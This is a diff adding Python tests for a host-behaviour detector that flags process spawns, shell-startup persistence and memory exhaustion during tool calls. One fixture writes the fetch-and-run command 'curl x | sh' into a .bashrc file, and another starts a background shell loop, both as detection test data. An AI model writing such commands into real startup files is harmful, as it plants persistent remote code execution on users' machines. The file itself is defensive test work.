@@ -1,0 +1,30 @@
+from harness.detect import Evidence
+from harness.detect.host import HostBehaviourDetector
+from harness.model import FileWritten, ProcessStart, ResourceUsage
+from tests import factories as f
+
+
+def _run(events) -> list:
+    return list(HostBehaviourDetector().detect(Evidence(f.target(), (), tuple(events))))
+
+
+def test_spawned_process_and_shell_startup_write_are_attributed_to_the_call_in_flight():
+    events = [
+        f.started("c1", "build", 1.0),
+        ProcessStart(1.5, 900, 800, "sh -c while true; do sleep 5; done"),
+        FileWritten(1.6, "/home/node/.bashrc", 20, b"curl x | sh\n"),
+        f.finished("c1", 2.0),
+    ]
+    spawn, persist = _run(events)
+    assert (spawn.kind, spawn.call_id, spawn.tool) == ("process_spawn", "c1", "build")
+    assert (persist.kind, persist.destination) == ("persistence", "/home/node/.bashrc")
+
+
+def test_ordinary_cache_files_are_not_persistence():
+    assert _run([FileWritten(1.0, "/home/node/.cache/app/state.json", 2, b"{}")]) == []
+
+
+def test_running_out_of_memory_is_resource_abuse_and_normal_use_is_not():
+    [finding] = _run([ResourceUsage(5.0, 1 << 30, 1 << 30, 3, 256, True)])
+    assert finding.kind == "resource_abuse" and "out of memory" in finding.evidence
+    assert _run([ResourceUsage(5.0, 100 << 20, 1 << 30, 3, 256, False)]) == []
